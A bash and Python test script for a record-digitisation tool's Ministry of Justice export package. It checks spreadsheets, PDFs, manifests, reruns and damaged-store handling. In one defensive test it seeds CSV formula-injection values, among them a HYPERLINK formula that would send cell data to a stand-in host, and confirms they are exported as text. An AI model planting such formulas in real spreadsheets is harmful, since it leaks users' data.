#!/usr/bin/env bash
# The Ministry of Justice package (export --format moj) of the committed sample batch, read back
# and checked against the batch store: the spreadsheet of every book (header rows, one row per
# eligible entry in number order, every cell equal to the store's canonical value or reading,
# partial dates kept as text), every PDF (a PDF whose image is the entry's crop), the
# manifest's sha256; the column doc against the code; a missing or unreadable page image
# (exit 2, rows noted, the other PDFs there); reruns byte-identical; foreign directories
# refused; CSV values that a spreadsheet would run as formulas written as text; a damaged
# store (a zeroed page of the fields table) exports nothing and names the table.
. "$(dirname "$0")/lib.sh"

S="$SOHOA_SOURCE"
B="$WORK/batch"
mapfile -t specs < <(bookspecs "$S/samples/batch")
t0=$(date +%s.%N)
run_status sohoa scan --batch "$B" "${specs[@]}"
[ "$status" -le 2 ] || fail "scan exit $status: $(cat "$WORK/stderr")"
run_status sohoa ocr --batch "$B"
[ "$status" -le 2 ] || fail "ocr exit $status: $(cat "$WORK/stderr")"
run_status sohoa validate --batch "$B"
[ "$status" -le 2 ] || fail "validate exit $status: $(cat "$WORK/stderr")"
run_status sohoa normalize --batch "$B"
[ "$status" -le 2 ] || fail "normalize exit $status: $(cat "$WORK/stderr")"
t1=$(date +%s.%N)
echo "pipeline on the sample batch: $(awk "BEGIN { printf \"%.1f\", $t1 - $t0 }") s"

# --- the column doc is the code's column table ----------------------------------------------
sohoa-export --print-columns >"$WORK/columns.md"
sed -n '/<!-- columns:begin -->/,/<!-- columns:end -->/p' "$S/docs/moj-export.md" |
	sed '1d;$d' >"$WORK/doc-columns.md"
checks=$((checks + 1))
diff -u "$WORK/doc-columns.md" "$WORK/columns.md" >&2 ||
	fail "docs/moj-export.md does not match 'sohoa-export --print-columns'"

# --- usage ------------------------------------------------------------------------------------
run_status sohoa export --batch "$B" --format moj
expect_eq "moj without --out" "$status" 1
run_status sohoa export --batch "$B" --format jsonl --all
expect_eq "--all with jsonl" "$status" 1

# --- content: some entries approved, synced, rejected -----------------------------------------
# every entry with a partial date, the first two rows of every page, one synced, one rejected
sql "$B" "UPDATE records SET status = 'approved' WHERE row <= 2 OR id IN (SELECT record_id
	FROM fields WHERE name LIKE '%date' AND length(value) IN (4, 7))"
sql "$B" "UPDATE records SET status = 'synced' WHERE id = (SELECT max(id) FROM records
	WHERE status = 'approved')"
sql "$B" "UPDATE records SET status = 'rejected' WHERE id = (SELECT max(id) FROM records
	WHERE status = 'needs_review')"
eligible=$(sql "$B" "SELECT count(*) FROM records WHERE status IN ('valid', 'approved', 'synced')")
[ "$eligible" -ge 10 ] || fail "only $eligible eligible records"

P="$WORK/out/pkg"
t0=$(date +%s.%N)
run_status sohoa export --batch "$B" --format moj --out "$P"
t1=$(date +%s.%N)
expect_eq "moj exit" "$status" 0
echo "moj export (default selection, $eligible entries):" \
	"$(awk "BEGIN { printf \"%.2f\", $t1 - $t0 }") s," \
	"$(du -sk "$P" | cut -f1) KiB, $(find "$P" -type f | wc -l) files"

# check.py BATCH PKG MODE [MISSING_PAGE_IMAGE...]: every assertion on the package's content
cat >"$WORK/check.py" <<'EOF'
import hashlib, json, os, re, sqlite3, struct, sys, zipfile
import xml.etree.ElementTree as ET

batch, pkg, mode = sys.argv[1], sys.argv[2], sys.argv[3]
broken = set(sys.argv[4:])      # page images made missing or unreadable
source = os.environ["SOHOA_SOURCE"]
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
checks = 0

def check(cond, what):
    global checks
    checks += 1
    if not cond:
        sys.exit("FAIL: " + what)

# the expected columns, from the doc (itself checked equal to the code)
doc = open(os.path.join(source, "docs/moj-export.md"), encoding="utf-8").read()
doc = doc.split("<!-- columns:begin -->")[1].split("<!-- columns:end -->")[0]
columns = {}
for part in doc.split("### ")[1:]:
    btype = re.search(r"\(`(\w+)`\)", part).group(1)
    cols = []
    for line in part.splitlines():
        m = re.match(r"\| ([A-Z]+) \| (.+?) \| `([^`]+)` \| ", line)
        if m:
            cols.append((m.group(1), m.group(2), m.group(3)))
    columns[btype] = cols

# every field of every layout has its column
for btype, cols in columns.items():
    layout = json.load(open(os.path.join(source, "schemas/layouts/%s-v1.json" % btype)))
    want = []
    for c in layout["columns"]:
        if c["kind"] == "field":
            want.append(c["field"])
        else:
            want += ["%s.%s" % (c["prefix"], f) for f in c["fields"]]
    got = [f for _, _, f in cols if not f.endswith(".code")
           and f not in ("status", "flags", "note", "pdf")]
    check(got == want, "%s: columns %s, layout fields %s" % (btype, got, want))
    check([f for _, _, f in cols[-4:]] == ["status", "flags", "note", "pdf"],
          "%s: status, flags, note and pdf are the last columns" % btype)

db = sqlite3.connect(os.path.join(batch, "batch.db"))
statuses = ["valid", "approved", "synced"] + (["needs_review", "rejected"] if mode == "all" else [])
manifest = json.load(open(os.path.join(pkg, "manifest.json"), encoding="utf-8"))
batch_id = db.execute("SELECT value FROM batch_meta WHERE key = 'batch_id'").fetchone()[0]
check(manifest["format"] == "sohoa-moj" and manifest["batch_id"] == batch_id, "manifest header")
check(manifest["statuses"] == statuses, "manifest statuses %s" % manifest["statuses"])

# every file of the package is listed with its right sha256 and size, and nothing else is there
listed = {f["path"]: f for f in manifest["files"]}
on_disk = set()
for root, _, files in os.walk(pkg):
    for name in files:
        on_disk.add(os.path.relpath(os.path.join(root, name), pkg))
check(on_disk == set(listed) | {"manifest.json"},
      "files on disk and in the manifest differ: %s" % (on_disk ^ (set(listed) | {"manifest.json"})))
for path, f in listed.items():
    data = open(os.path.join(pkg, path), "rb").read()
    check(hashlib.sha256(data).hexdigest() == f["sha256"], "sha256 of " + path)
    check(len(data) == f["bytes"], "size of " + path)

def tiff_info(path):
    """width, height and x resolution of the first page of a TIFF."""
    d = open(path, "rb").read()
    e = "<" if d[:2] == b"II" else ">"
    off = struct.unpack(e + "I", d[4:8])[0]
    n = struct.unpack(e + "H", d[off:off + 2])[0]
    tags = {}
    for i in range(n):
        tag, typ, cnt = struct.unpack(e + "HHI", d[off + 2 + 12 * i: off + 10 + 12 * i])
        raw = d[off + 10 + 12 * i: off + 14 + 12 * i]
        if typ == 3:
            tags[tag] = struct.unpack(e + "H", raw[:2])[0]
        elif typ == 4:
            tags[tag] = struct.unpack(e + "I", raw)[0]
        elif typ == 5:
            vo = struct.unpack(e + "I", raw)[0]
            num, den = struct.unpack(e + "II", d[vo:vo + 8])
            tags[tag] = num / den if den else 0
    return tags[256], tags[257], int(round(tags.get(282, 0)))

def xlsx_read(path):
    z = zipfile.ZipFile(path)
    strings = []
    sst = ET.fromstring(z.read("xl/sharedStrings.xml"))
    for si in sst.findall("m:si", NS):
        strings.append("".join(t.text or "" for t in si.iter("{%s}t" % NS["m"])))
    wb = ET.fromstring(z.read("xl/workbook.xml"))
    sheets = [s.get("name") for s in wb.find("m:sheets", NS)]
    ws = ET.fromstring(z.read("xl/worksheets/sheet1.xml"))
    rows = {}
    for row in ws.find("m:sheetData", NS):
        r = int(row.get("r"))
        cells = {}
        for c in row.findall("m:c", NS):
            col = re.match(r"[A-Z]+", c.get("r")).group(0)
            v = c.find("m:v", NS)
            cells[col] = (c.get("t"), strings[int(v.text)] if c.get("t") == "s" else
                          (v.text if v is not None else None))
        rows[r] = cells
    return sheets, ws, rows

def cell_text(v):
    return "".join(" " if (ord(ch) < 32 and ch not in "\n\t") or ord(ch) == 127 else ch
                   for ch in v)

partial_dates = 0
pdfs_checked = 0
headers = {}            # page id -> header band height in the PDFs of its entries
books = db.execute("SELECT id, type, year, volume, authority_code, created_at FROM books "
                   "ORDER BY id").fetchall()
check(len(manifest["books"]) == len(books), "every book is in the manifest")
for (book_id, btype, year, volume, authority, created), mb in zip(books, manifest["books"]):
    key = "%s-%d-%s-%s" % (btype, year, volume, authority)
    check(mb["key"] == key, "book key %s" % mb["key"])
    cols = columns[btype]
    recs = db.execute(
        "SELECT r.id, r.page_id, r.row, r.x0, r.y0, r.x1, r.y1, r.status, p.image, "
        "(SELECT value FROM fields f WHERE f.record_id = r.id AND f.name = "
        "'registration_number') FROM records r JOIN pages p ON p.id = r.page_id "
        "WHERE r.book_id = ? AND r.status IN (%s) ORDER BY p.scan_file_id, p.page_index, r.row"
        % ",".join("?" * len(statuses)), [book_id] + statuses).fetchall()
    def number(rec):
        v = rec[9]
        return int(v) if v is not None and re.fullmatch(r"[0-9]{1,9}", v) else None
    seq = {rec[0]: i for i, rec in enumerate(recs)}
    recs.sort(key=lambda rec: (number(rec) is None, number(rec) or 0, seq[rec[0]]))
    check(mb["records"] == len(recs), "%s: %d records in the manifest, %d eligible"
          % (key, mb["records"], len(recs)))
    sheets, ws, rows = xlsx_read(os.path.join(pkg, key, key + ".xlsx"))
    check(sheets == [key[:31]], "%s: sheet named %s" % (key, sheets))
    check([rows[1][c][1] for c, _, _ in cols] == [t for _, t, _ in cols], key + ": header row")
    check([rows[2][c][1] for c, _, _ in cols] == [f for _, _, f in cols], key + ": field row")
    check(len(rows) == 2 + len(recs), "%s: %d rows, want %d" % (key, len(rows) - 2, len(recs)))
    pane = ws.find("m:sheetViews/m:sheetView/m:pane", NS)
    check(pane is not None and pane.get("state") == "frozen" and pane.get("ySplit") == "2",
          key + ": header rows frozen")
    af = ws.find("m:autoFilter", NS)
    check(af is not None and af.get("ref") == "A2:%s%d" % (cols[-1][0], 2 + len(recs)),
          key + ": autofilter")
    check(ws.find("m:cols", NS) is not None and len(ws.find("m:cols", NS)) == len(cols),
          key + ": column widths")
    numbers = [number(r) for r in recs]
    for i, rec in enumerate(recs):
        rid, page_id, row_no, x0, y0, x1, y1, status, image = rec[:9]
        cells = rows[3 + i]
        fields = {n: (raw, value, code) for n, raw, value, code in db.execute(
            "SELECT name, raw, value, code FROM fields WHERE record_id = ?", (rid,))}
        flags = "; ".join(c for (c,) in db.execute(
            "SELECT code FROM flags WHERE record_id = ? AND state = 'open' GROUP BY code "
            "ORDER BY min(id)", (rid,)))
        n = numbers[i]
        if n is None:
            pdf = "%s-r%d.pdf" % (key, rid)
        elif numbers.count(n) > 1:
            pdf = "%s-%04d-r%d.pdf" % (key, n, rid)
        else:
            pdf = "%s-%04d.pdf" % (key, n)
        missing = image in broken
        for col, _, field in cols:
            got = cells.get(col, (None, None))
            if field == "status":
                want = status
            elif field == "flags":
                want = flags or None
            elif field == "note":
                want = "noted" if missing else None
                got = (got[0], "noted" if got[1] else None)
            elif field == "pdf":
                want = None if missing else pdf
            elif field.endswith(".code"):
                want = fields.get(field[:-5], (None, None, None))[2]
            else:
                raw, value, _ = fields.get(field, (None, None, None))
                want = cell_text(value if value is not None else raw) \
                    if (value or raw) else None
            check(got[1] == want, "%s record %d column %s (%s): got %r, want %r"
                  % (key, rid, col, field, got[1], want))
            if want is not None:
                check(got[0] == "s", "%s record %d %s is a text cell" % (key, rid, col))
            if field.endswith("date") and want and re.fullmatch(r"[0-9]{4}(-[0-9]{2})?", want):
                partial_dates += 1
        if missing:
            check(not os.path.exists(os.path.join(pkg, key, "pdf", pdf)),
                  "%s: no PDF for record %d" % (key, rid))
            check(any(m["record"] == rid for m in mb["missing_pdfs"]),
                  "%s: record %d listed without PDF" % (key, rid))
            continue
        data = open(os.path.join(pkg, key, "pdf", pdf), "rb").read()
        check(data.startswith(b"%PDF-"), pdf + " is a PDF")
        check(listed[key + "/pdf/" + pdf].get("record") == rid, pdf + " names its record")
        w = int(re.search(rb"/Width (\d+)", data).group(1))
        h = int(re.search(rb"/Height (\d+)", data).group(1))
        check(b"/Filter /CCITTFaxDecode" in data, pdf + " holds a G4 image")
        title = bytes.fromhex(re.search(rb"/Title <feff([0-9a-f]*)>", data).group(1).decode())
        title = title.decode("utf-16-be")
        check(title == ("%s - Số %d" % (key, n) if n is not None else "%s - bản ghi %d"
                                                                   % (key, rid)),
              pdf + " title " + title)
        # the cross-reference table points at the objects (the title and date were patched
        # in place)
        xref = data[data.rindex(b"\nxref\n"):]
        offsets = [int(o) for o in re.findall(rb"\n(\d{10}) 00000 n", xref)]
        check(offsets and all(re.match(rb"%d 0 obj" % (i + 1), data[o:o + 12])
                              for i, o in enumerate(offsets)), pdf + ": cross-references")
        stamp = re.sub(r"[^0-9]", "", created)[:14]
        check(b"/CreationDate (D:" + stamp.encode() in data, pdf + " dated as its book")
        pw, ph, dpi = tiff_info(os.path.join(batch, image))
        check(re.search(rb"/MediaBox \[0 0 (\d+) (\d+)\]", data) is not None, pdf + " page")
        m, mx = max(2, (dpi * 4 + 150) // 300), dpi // 30
        want_w = min(pw, x1 + mx) - max(0, x0 - mx)
        row_h = min(ph, y1 + m) - max(0, y0 - m)
        check(w == want_w, "%s: image %d wide, the crop is %d" % (pdf, w, want_w))
        head = h - row_h
        # the column headings above the entry: the same band for every entry of a page,
        # between a quarter inch and two inches high
        check(dpi // 4 <= head <= 2 * dpi, "%s: heading band %d px at %d dpi" % (pdf, head, dpi))
        check(headers.setdefault(page_id, head) == head, pdf + ": heading band of its page")
        pdfs_checked += 1

check(partial_dates > 0, "a partial date was checked")
print("check.py: %d checks, %d PDFs, %d partial dates" % (checks, pdfs_checked, partial_dates))
EOF

check() {
	python3 "$WORK/check.py" "$@" >"$WORK/check.out" || fail "content of $2"
	cat "$WORK/check.out"
	checks=$((checks + 1))
}
check "$B" "$P" default

# --- a second run: the same bytes; into the same directory: replaced ------------------------
run_status sohoa export --batch "$B" --format moj --out "$WORK/out/again"
expect_eq "second run exit" "$status" 0
checks=$((checks + 1))
diff -r "$P" "$WORK/out/again" >&2 || fail "a second run gives different files"
touch -d '2000-01-01' "$P/manifest.json"
run_status sohoa export --batch "$B" --format moj --out "$P"
expect_eq "rerun into the package exit" "$status" 0
checks=$((checks + 1))
diff -r "$P" "$WORK/out/again" >&2 || fail "the replaced package differs"
expect_match "the package was replaced" "$(stat -c %y "$P/manifest.json")" "^20[^0]"
expect_eq "no temporary directory left" "$(find "$WORK/out" -maxdepth 1 -name '.*' | wc -l)" 0

# --- refused: a foreign directory, a package of another batch --------------------------------
mkdir -p "$WORK/out/foreign" && echo keep >"$WORK/out/foreign/notes.txt"
run_status sohoa export --batch "$B" --format moj --out "$WORK/out/foreign"
expect_eq "foreign directory exit" "$status" 3
expect_match "foreign directory message" "$(cat "$WORK/stderr")" "not overwritten"
expect_eq "foreign directory untouched" "$(ls "$WORK/out/foreign")" "notes.txt"
cp -r "$P" "$WORK/out/other"
sed -i 's/"batch_id": "[^"]*"/"batch_id": "someone-else"/' "$WORK/out/other/manifest.json"
run_status sohoa export --batch "$B" --format moj --out "$WORK/out/other"
expect_eq "another batch's package exit" "$status" 3
expect_eq "another batch's package untouched" \
	"$(grep -c someone-else "$WORK/out/other/manifest.json")" 1
echo file >"$WORK/out/plainfile"
run_status sohoa export --batch "$B" --format moj --out "$WORK/out/plainfile"
expect_eq "a file in the way exit" "$status" 3
expect_match "a file in the way message" "$(cat "$WORK/stderr")" "is not a directory"
mkdir -p "$WORK/out/emptydir"
run_status sohoa export --batch "$B" --format moj --out "$WORK/out/emptydir"
expect_eq "an empty directory is used" "$status" 0
[ -f "$WORK/out/emptydir/manifest.json" ] || fail "nothing written into the empty directory"

# --- --all ----------------------------------------------------------------------------------
run_status sohoa export --batch "$B" --format moj --out "$WORK/out/all" --all
expect_eq "--all exit" "$status" 0
check "$B" "$WORK/out/all" all
all=$(sql "$B" "SELECT count(*) FROM records WHERE status <> 'extracted'")
expect_eq "--all: every reviewed or not record" \
	"$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["records"])' \
		"$WORK/out/all/manifest.json")" "$all"

# --- a page image missing, another unreadable -------------------------------------------------
B2="$WORK/broken"
cp -r "$B" "$B2"
gone=$(sql "$B2" "SELECT p.image FROM pages p JOIN records r ON r.page_id = p.id
	WHERE r.status = 'approved' GROUP BY p.id ORDER BY p.id LIMIT 1")
bad=$(sql "$B2" "SELECT p.image FROM pages p JOIN records r ON r.page_id = p.id
	WHERE r.status = 'approved' AND p.image <> '$gone' GROUP BY p.id ORDER BY p.id DESC LIMIT 1")
rm "$B2/$gone"
head -c 300 /dev/urandom >"$B2/$bad"
run_status sohoa export --batch "$B2" --format moj --out "$WORK/out/broken"
expect_eq "missing page image exit" "$status" 2
noted=$(sql "$B2" "SELECT count(*) FROM records r JOIN pages p ON p.id = r.page_id
	WHERE p.image IN ('$gone', '$bad') AND r.status IN ('valid', 'approved', 'synced')")
expect_eq "every entry of those pages is named on stderr" \
	"$(grep -c 'no PDF: page image' "$WORK/stderr")" "$noted"
expect_match "the missing image is named" "$(cat "$WORK/stderr")" "'$gone' is missing"
expect_match "the unreadable image is named" "$(cat "$WORK/stderr")" "'$bad' is unreadable"
check "$B2" "$WORK/out/broken" default "$gone" "$bad"
expect_eq "manifest: entries without PDF" \
	"$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["missing_pdfs"])' \
		"$WORK/out/broken/manifest.json")" "$noted"
# --- CSV: a value a spreadsheet would run as a formula is written as text ----------------------
B3="$WORK/formula"
cp -r "$B" "$B3"
rid=$(sql "$B3" "SELECT min(id) FROM records")
i=0
for v in '=HYPERLINK("http://x.example/?"&A1,"click")' '+1+2' '-2+3' '@SUM(A1:A9)' \
	"$(printf '\tTAB')"; do
	i=$((i + 1))
	name=$(sql "$B3" "SELECT name FROM fields WHERE record_id = $rid ORDER BY name
		LIMIT 1 OFFSET $i")
	python3 - "$B3/batch.db" "$rid" "$name" "$v" <<'PY'
import sqlite3, sys
c = sqlite3.connect(sys.argv[1])
c.execute("UPDATE fields SET value = ? WHERE record_id = ? AND name = ?",
          (sys.argv[4], int(sys.argv[2]), sys.argv[3]))
c.commit()
PY
done
run_status sohoa export --batch "$B3" --format csv --out "$WORK/out/formula.csv"
expect_eq "csv with formulas exit" "$status" 0
python3 - "$WORK/out/formula.csv" "$rid" <<'PY' || fail "a CSV cell could run as a formula"
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
bad, seen = [], 0
for row in rows:
    for cell in row:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            bad.append(cell)
        if cell.startswith("'") and cell[1:2] in ("=", "+", "-", "@", "\t"):
            seen += 1
print(f"csv: {seen} formula-like values written as text, {len(bad)} left live")
for b in bad:
    print("live:", repr(b), file=sys.stderr)
expected = ["'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "'+1+2", "'-2+3", "'@SUM(A1:A9)",
            "'\tTAB"]
missing = [e for e in expected if not any(e in row for row in rows)]
for m in missing:
    print("not found as text:", repr(m), file=sys.stderr)
sys.exit(1 if bad or missing else 0)
PY
checks=$((checks + 1))
# JSON lines keep the value as it is (no spreadsheet reads them)
run_status sohoa export --batch "$B3" --format jsonl --out "$WORK/out/formula.jsonl"
expect_eq "jsonl with formulas exit" "$status" 0
checks=$((checks + 1))
grep -qF '"value":"=HYPERLINK(' "$WORK/out/formula.jsonl" || fail "jsonl changed the value"

# --- a damaged store: nothing is exported, the damage is named --------------------------------
for cut in 0 1024; do
	B4="$WORK/damaged-$cut"
	rm -rf "$B4"
	cp -r "$B" "$B4"
	sqlite3 "$B4/batch.db" "PRAGMA wal_checkpoint(TRUNCATE)" >/dev/null
	page=$(python3 - "$B4/batch.db" <<'PY'
import sqlite3, sys
c = sqlite3.connect(sys.argv[1])
# a leaf page of the fields table in the middle of the tree
pages = [p for (p,) in c.execute(
    "SELECT pageno FROM dbstat WHERE name = 'fields' AND pagetype = 'leaf' ORDER BY pageno")]
print(pages[len(pages) // 2])
PY
)
	size=$(sqlite3 "$B4/batch.db" "PRAGMA page_size")
	# all of the page, or all but its header and cell pointers (rows then read as absent)
	dd if=/dev/zero of="$B4/batch.db" bs=1 seek=$(((page - 1) * size + cut)) \
		count=$((size - cut)) conv=notrunc status=none
	for fmt in jsonl csv; do
		rm -f "$WORK/out/damaged.$fmt"
		run_status sohoa export --batch "$B4" --format "$fmt" --out "$WORK/out/damaged.$fmt"
		expect_eq "damaged store ($cut, $fmt) exit" "$status" 3
		expect_match "damaged store ($cut, $fmt) names the table" "$(cat "$WORK/stderr")" \
			"damaged in table 'fields' \\(page $page\\)"
		[ ! -e "$WORK/out/damaged.$fmt" ] || fail "a damaged store's $fmt export was written"
		# to stdout: nothing at all, not a header or part of the records
		sohoa export --batch "$B4" --format "$fmt" >"$WORK/out/damaged.stdout" 2>/dev/null &&
			fail "export of a damaged store to stdout succeeded"
		expect_eq "damaged store ($cut, $fmt) to stdout writes nothing" \
			"$(wc -c <"$WORK/out/damaged.stdout")" 0
	done
	run_status sohoa export --batch "$B4" --format moj --out "$WORK/out/damaged-pkg"
	expect_eq "damaged store ($cut, moj) exit" "$status" 3
	[ ! -e "$WORK/out/damaged-pkg" ] || fail "a damaged store's package was written"
	run_status sohoa review show --batch "$B4" "$rid"
	expect_eq "damaged store ($cut) review show exit" "$status" 3
	expect_match "review show names the damage" "$(cat "$WORK/stderr")" "is damaged"
	run_status timeout 60 sohoa review serve --batch "$B4" --listen 127.0.0.1:0
	expect_eq "damaged store ($cut) review serve does not start" "$status" 3
	expect_match "review serve names the damage" "$(cat "$WORK/stderr")" "is damaged"
done
done_ok
